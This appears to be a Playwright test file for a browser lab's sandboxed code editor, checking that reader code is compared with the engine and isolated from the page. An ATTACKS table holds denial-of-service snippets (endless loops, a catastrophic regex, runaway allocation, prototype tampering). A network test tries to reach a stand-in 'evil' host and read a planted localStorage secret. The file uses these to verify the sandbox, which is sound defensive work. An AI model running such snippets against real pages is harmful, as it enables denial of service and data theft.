import {readFileSync} from 'node:fs';
import {createServer} from 'node:http';
import type {AddressInfo} from 'node:net';
import type {Page} from '@playwright/test';
import {expect, say, test} from './lab';
import {PLAIN, STRICT} from './server';

test.use({folds: ''});

const status = (page: Page) => page.locator('.cs-code-status');

/** The words about a result that is not the engine's. */
const DIFFERS = 'Your code first differs at';

/** Opens the editor with a code. The host has no policy, so that run.html has only its own. */
async function own(page: Page, code?: string): Promise<void> {
  if (code !== undefined) await page.addInitScript((code) => {
      if (window.origin !== 'null') localStorage.setItem('clipstage.code', code);
    }, code);
  await page.goto(`${PLAIN}#lab=pair&preset=both-clip&stage=contacts&code=on`);
  await page.getByRole('button', {name: say('page.code.own'), exact: true}).click();
}

test.describe('the reader’s own code', () => {
  test('runs with each change and each drag, beside its lines; errors stand at their line, and storage keeps it', async ({page, lab}) => {
    await own(page);
    await expect(status(page)).toHaveText(say('page.code.same.text'));
    const line = page.locator('.cm-line', {hasText: 'const separation ='}), before = await line.textContent();
    expect(before).toMatch(/−?\d\.\d/);
    await lab.canvas.click({position: {x: 5, y: 200}});
    await page.getByRole('button', {name: 'Previous stage'}).click();
    await page.getByRole('button', {name: 'Previous stage'}).click();
    await expect(page.locator('.cm-line', {hasText: 'function clipPos'})).toBeInViewport();

    const text = page.locator('.cm-content');
    await text.focus();
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText('function collide(a, b) {\n  return [{p: a.p}, nothing];\n}');
    await expect(page.locator('.cm-line').nth(1)).toContainText('ReferenceError');
    await expect(status(page)).toContainText('Line 2: ReferenceError');
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText('function collide(a, b) {\n  return [{p: a.p];\n}');
    await expect(status(page)).toContainText('Line 2: Unexpected token');
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText('const collide = (a, b) => []');
    await expect(status(page)).toContainText(DIFFERS);
    await page.reload();
    await page.getByRole('button', {name: say('page.code.own'), exact: true}).click();
    await expect(text).toContainText('=> []');
  });

  test('is compared with the engine: at the first stage that differs, and for all pairs', async ({page, lab}) => {
    const listing = readFileSync(new URL('../../web/src/listing/collide.js', import.meta.url), 'utf8'), wrong = listing.replace('const t = d0 / (d0 - d1);', 'const t = d1 / (d1 - d0);');
    expect(wrong).not.toBe(listing);
    await own(page, wrong);
    await expect(status(page)).toContainText('Your code first differs at Clip −side: mid.clipPoints1');
    await expect(page.locator('.cs-code-own .cs-port-values .cs-wrong').first()).toContainText('clipPoints1');
    await expect(page.locator('.cs-stage[data-stage=clip-neg]')).toHaveClass(/cs-mistaken/);
    await page.getByRole('button', {name: say('page.code.all'), exact: true}).click();
    const words = page.locator('.cs-cases [role=status]');
    await expect(words).toHaveText(/^\d+ of 354 pairs tried agree/, {timeout: 60_000});
    const cases = page.locator('.cs-cases-list li', {hasText: 'Clip −side'}).getByRole('button');
    await expect(cases).toHaveCount(8);
    await cases.nth(1).click();
    await lab.isAt('clip-neg');
    await expect(status(page)).toContainText('Clip −side');
    await expect(page).toHaveURL(/a=/);

    await page.locator('.cm-content').focus();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText(listing);
    await expect(status(page)).toHaveText(say('page.code.same.text'));
    await page.getByRole('button', {name: say('page.code.all'), exact: true}).click();
    await expect(words).toHaveText('354 of 354 pairs tried agree.', {timeout: 60_000});
    await page.getByRole('button', {name: say('page.code.all'), exact: true}).click();
    await page.getByRole('button', {name: say('page.code.stop'), exact: true}).click();
    await expect(words).not.toHaveText('354 of 354 pairs tried agree.');
  });

  test('keeps its keys, and is undone to the code before after a new start', async ({page}) => {
    await own(page, 'const collide = () => [];');
    await expect(status(page)).toContainText(DIFFERS);
    await page.locator('.cm-content').focus();
    await page.keyboard.type('// c');
    await expect(page.locator('.cs-code')).toBeVisible();
    await page.getByRole('button', {name: say('page.code.anew')}).click();
    await expect(page.locator('.cm-content')).toContainText('Yours to change');
    await page.locator('.cm-content').focus();
    await page.keyboard.press('ControlOrMeta+z');
    await expect(page.locator('.cm-content')).toContainText('const collide = () => [];');
  });
});

test.describe('under a policy', () => {
  test('the editor works if run.html has only its own', async ({page}) => {
    await page.route('**/run.html', async (route) => {
      const response = await route.fetch(), {'content-security-policy': _, ...headers} = response.headers();
      await route.fulfill({response, headers});
    });
    await page.goto(`${STRICT}#lab=pair&preset=both-clip&stage=contacts&code=on`);
    await page.getByRole('button', {name: say('page.code.own'), exact: true}).click();
    await expect(status(page)).toHaveText(say('page.code.same.text'));
    await expect(page.locator('.cm-line').first()).toBeVisible();
  });

  test('that forbids the frame or its scripts, the code can be read, and the pane says why', async ({page, faults}) => {
    faults.allow(/Content Security Policy/);
    await page.goto(`${STRICT}#lab=pair&preset=both-clip&stage=contacts&code=on`);
    await page.getByRole('button', {name: say('page.code.own'), exact: true}).click();
    await expect(status(page)).toHaveText(say('page.code.blocked.text'));
    await expect(page.locator('.cm-content')).toHaveAttribute('contenteditable', 'false');
  });
});

/** Codes that attack, with the message about each. A code without one runs. */
const ATTACKS: Readonly<Record<string, readonly [code: string, words: RegExp]>> = {
  'an endless loop': ['function collide() {\n  while (true);\n}', /^Line 2: .*200 ms/],
  'a loop that catches all': ['function collide() {\n  for (;;) try { for (;;); } catch {}\n}', /^Line 2: .*200 ms/],
  'an endless loop outside collide': ['for (;;) ;\nfunction collide() { if (open) throw Error("open"); return []; }', /^Line 1: .*200 ms/],
  'an endless expression': ['function collide() {\n  const a = 1;\n  return /(a+)+b/.test("a".repeat(60));\n}', /^Line 3: .*200 ms/],
  'endless recursion': ['const collide = () => collide();', /^Line 1: RangeError|^Line 1: InternalError/],
  'endless allocation': ['function collide() {\n  const all = [];\n  for (;;) all.push(new Float64Array(100_000).fill(1));\n}', /^Line 3: /],
  'a getter that throws': ['const collide = () => [{get p() { throw new Error("no"); }}];', /Error: no/],
  'a getter that never ends': ['const collide = () => [{get p() { for (;;); }}];', /200 ms/],
  'an error that cannot be read': ['function collide() { throw {get message() { throw this; }}; }', /^Line 1: \?/],
  'a proxy': ['const collide = () => new Proxy([], {get: () => 3, ownKeys: () => { throw 1; }});', /form/],
  'a large result': ['const collide = () => Array.from({length: 1e4}, () => ({p: [1, 2], x: "x".repeat(1e3)}));', /form|200 ms/],
  'a promise': ['async function collide() { return []; }', /form/],
  'a flood of messages': ['function collide() { for (let i = 0; i < 1e6; i++) postMessage("result {}"); return []; }', /messages|form/],
  'large messages': ['function collide() { postMessage("x".repeat(1e6)); return []; }', /messages/],
  'messages after the call': ['setInterval(() => postMessage("ready"), 20); function collide() { return []; }', /messages/],
  'forged messages': ['function collide() { postMessage(`result {"got":[{"p":[1e999,{}]}],"steps":[[-1,[]]]}`); for (;;); }', /form/],
  'silence': ['onmessage = null; function collide() { close(); for (;;); }', /200 ms/],
  'another worker': ['new Worker(URL.createObjectURL(new Blob(["for (;;) postMessage(1)"]))); function collide() { return []; }', /first differs/],
  'changed prototypes': [`for (const of of [Object, Array, String, Number, Function, Promise, RegExp, Error]) for (const name of Object.getOwnPropertyNames(of.prototype))
    try { if (name !== "constructor") Object.defineProperty(of.prototype, name, {get() { return () => 666; }, configurable: true}); } catch {}
  JSON.stringify = JSON.parse = Object.keys = Array.isArray = Math.abs = Date.now = performance.now = () => 666; postMessage = self.addEventListener = () => 666;
  function collide() { return []; }`, /first differs|form/],
};

test.describe('an attack by the reader’s code does not reach the page', () => {
  for (const [name, [code, words]] of Object.entries(ATTACKS)) test(name, {tag: '@engine'}, async ({page, lab}) => {
    const errors: string[] = [];
    page.on('pageerror', ({message}) => void errors.push(message));
    await own(page, code);
    await expect(status(page)).toHaveText(words);
    // The page goes on, and the next code runs.
    await page.getByRole('button', {name: 'Previous stage'}).click();
    await lab.isAt('keep');
    await page.locator('.cm-content').focus();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText('const collide = (a) => [{p: a.p}];');
    await expect(status(page)).toContainText(DIFFERS);
    expect(errors).toEqual([]);
  });

  test('by network, windows or storage', {tag: '@engine'}, async ({page, faults}) => {
    faults.allow(/evil/);
    const asked: unknown[] = [], opened: string[] = [];
    const server = createServer(({url}, response) => {
      asked.push(url);
      response.writeHead(200, {'access-control-allow-origin': '*', 'content-type': 'text/javascript'}).end();
    }).listen(0);
    page.on('popup', (popup) => void opened.push(popup.url()));
    await page.addInitScript(() => {
      if (window.origin !== 'null') localStorage.setItem('secret', 'secret');
    });
    await own(page, `const outs = {}; let open = 0;
      const attempt = (name, act) => { try { const got = act(); outs[name] = got === undefined || got === null ? 0 : 1; if (got instanceof Promise) { outs[name] = 0; open++; got.then(() => { outs[name] = 2; }, () => {}).finally(() => open--); } } catch { outs[name] = 0; } };
      const evil = "http://localhost:${(server.address() as AddressInfo).port}/evil";
      attempt("fetch", () => fetch(evil));
      attempt("import", () => (0, eval)("import('" + evil + ".js')"));
      attempt("scripts", () => importScripts(evil + ".js"));
      attempt("request", () => { const x = new XMLHttpRequest(); x.open("GET", evil, false); x.send(); return x.status; });
      attempt("socket", () => { new WebSocket(evil.replace("http", "ws")); });
      attempt("events", () => { new EventSource(evil); });
      attempt("worker", () => { new Worker(evil + ".js"); });
      attempt("beacon", () => navigator.sendBeacon(evil, "x") || null);
      for (const name of ["top", "parent", "opener", "frames", "window", "document", "localStorage", "sessionStorage"]) attempt(name, () => (0, eval)(name));
      attempt("origin", () => origin === "null" ? null : origin);
      attempt("database", () => indexedDB.open("x") && null);
      attempt("caches", () => caches.open("x"));
      attempt("service", () => navigator.serviceWorker.register(evil));
      attempt("channel", () => { new BroadcastChannel("clipstage").postMessage("x"); });
      function collide() { return Object.keys(outs).filter((name) => outs[name] > 0).map((name) => ({p: [name]})); }`);
    await expect(async () => { // once the browser has answered every attempt
      await page.getByRole('button', {name: say('page.code.run'), exact: true}).click();
      await expect(status(page)).toContainText(DIFFERS, {timeout: 1000});
    }).toPass();
    await page.getByRole('button', {name: 'Previous stage'}).click();
    await expect(status(page)).toContainText(DIFFERS);
    server.close();
    expect(asked).toEqual([]);
    expect(opened).toEqual([]);
    expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('secret');
  });
});
